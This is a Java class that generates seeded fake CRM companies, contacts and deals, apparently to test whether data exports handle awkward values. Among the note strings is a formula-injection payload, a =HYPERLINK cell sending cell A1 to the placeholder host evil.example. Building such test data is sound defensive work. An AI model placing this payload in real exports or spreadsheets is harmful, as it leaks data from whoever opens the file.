package org.exportaudit.demo.control;

import java.math.BigDecimal;
import java.text.Normalizer;
import java.time.LocalDate;
import java.util.SplittableRandom;

/**
 * The demo CRM's records, made up the same way every time (a fixed seed): names from many
 * languages, and on purpose the values that break careless exports — commas, quotes, line breaks,
 * and cells that start like a formula.
 */
public final class CrmRecords {

    public static final int COMPANIES = 5_000;
    public static final int CONTACTS = 100_000;
    public static final int DEALS = 20_000;

    private static final String[] FIRST = {"Zoë", "José", "Siobhán", "Łukasz", "Anaïs", "Jürgen", "Søren", "Chloé",
        "Mei", "Ahmed", "Olivia", "Noah", "Björn", "Inès", "Dmitri", "Aoife", "Matías", "Renée", "Kenji", "Amara",
        "François", "Priya", "Ørjan", "Zsófia", "William", "Emma", "Lucía", "Håkon", "Nuño", "伟"};
    private static final String[] LAST = {"Ångström", "Müller", "García", "O'Brien", "Nowak", "Dubois", "Østergaard",
        "Smith", "Núñez", "Kowalczyk", "Rossi", "Janssen", "Yılmaz", "Papadopoulos", "Tanaka", "Nguyễn", "Schäfer",
        "van der Berg", "Lefèvre", "Brown", "王", "Jensen", "Żak", "Fernández", "Kelly"};
    private static final String[] TITLES = {"Head of Sales", "CFO", "Account Executive", "Procurement Lead",
        "VP, Operations", "Engineer", "-VP-", "Office Manager", "Director of IT", "Marketing Lead"};
    private static final String[] CITIES = {"Vienna", "Zürich", "München", "København", "Kraków", "Lyon", "Dublin",
        "São Paulo", "Québec", "Reykjavík", "London", "Berlin", "Madrid", "Tokyo", "New York"};
    private static final String[] COUNTRIES = {"Austria", "Switzerland", "Germany", "Denmark", "Poland", "France",
        "Ireland", "Brazil", "Canada", "Iceland", "United Kingdom", "Germany", "Spain", "Japan", "United States"};
    private static final String[] STREETS = {"Hauptstraße", "Rue de la Paix", "Ulica Długa", "Calle Mayor",
        "Nørregade", "Main Street", "Via Roma", "Strøget"};
    private static final String[] STAGES = {"subscriber", "lead", "marketing qualified lead", "sales qualified lead",
        "opportunity", "customer", "evangelist"};
    private static final String[] OWNERS = {"bob", "erin", "alice", "sam", "@sales", "Team \"North\""};
    private static final String[] INDUSTRIES = {"Software", "Manufacturing", "Retail", "Healthcare", "Finance",
        "Logistics", "Energy", "Education"};
    private static final String[] DEAL_STAGES = {"appointment scheduled", "qualified to buy", "presentation scheduled",
        "decision maker bought-in", "contract sent", "closed won", "closed lost"};
    private static final String[] NOTES = {
        "Met at the trade fair, asked for \"enterprise\" pricing",
        "Prefers email.\nCall back in Q3, after the budget review",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for invoice\")",
        "+1 ordered, waiting for the PO",
        "-2% discount agreed, see contract",
        "@channel please follow up",
        "Spricht Deutsch, Français, and a little 日本語",
        "Line one\r\nLine two, with a comma",
    };

    private final SplittableRandom random;
    private final LocalDate epoch = LocalDate.of(2020, 1, 1);

    public CrmRecords(long seed) {
        this.random = new SplittableRandom(seed);
    }

    public Object[] company(long id) {
        String base = pick(LAST).replace("'", "").replace(" ", "") + " " + pick(new String[] {"GmbH", "SA", "Ltd",
            "Inc.", "AB", "S.p.A.", "& Söhne", "Holding, Inc."});
        int city = random.nextInt(CITIES.length);
        return new Object[] {id, base + " " + id, "company" + id + ".example", pick(INDUSTRIES),
            10 + random.nextInt(20_000), CITIES[city], COUNTRIES[city], money(1_000_000, 900_000_000),
            date(1_800)};
    }

    public Object[] contact(long id) {
        String first = pick(FIRST);
        String last = pick(LAST);
        int city = random.nextInt(CITIES.length);
        return new Object[] {id, first, last, email(first, last, id), phone(), random.nextInt(4) == 0 ? null : phone(),
            pick(TITLES), 1 + (long) random.nextInt(COMPANIES), (1 + random.nextInt(200)) + " " + pick(STREETS),
            CITIES[city], String.format("%05d", random.nextInt(100_000)), COUNTRIES[city], pick(STAGES),
            random.nextInt(101), pick(OWNERS), date(1_800), random.nextInt(5) == 0 ? null : date(2_000),
            random.nextInt(3) == 0 ? pick(NOTES) : null};
    }

    public Object[] deal(long id) {
        return new Object[] {id, pick(new String[] {"Renewal", "Upsell", "New business", "Pilot, phase 2"}) + " #" + id,
            1 + (long) random.nextInt(COMPANIES), 1 + (long) random.nextInt(CONTACTS), money(500, 2_000_000),
            pick(new String[] {"EUR", "USD", "CHF", "GBP"}), pick(DEAL_STAGES), date(2_200), pick(OWNERS)};
    }

    private String email(String first, String last, long id) {
        // Zoë Ångström → zoe.angstrom: letters without their accents, as mail systems have them.
        String local = Normalizer.normalize(first + "." + last, Normalizer.Form.NFD).toLowerCase()
                .replace("ł", "l").replace("ø", "o").replaceAll("[^a-z.]", "");
        return (local.length() < 3 ? "contact" : local) + id + "@example.com";
    }

    private String phone() {
        return "+" + (1 + random.nextInt(98)) + " " + (100 + random.nextInt(900)) + " " + (1000 + random.nextInt(9000));
    }

    private BigDecimal money(int low, int high) {
        return BigDecimal.valueOf(low + random.nextLong(high - low), 0).add(BigDecimal.valueOf(random.nextInt(100), 2));
    }

    private LocalDate date(int days) {
        return epoch.plusDays(random.nextInt(days));
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }
}
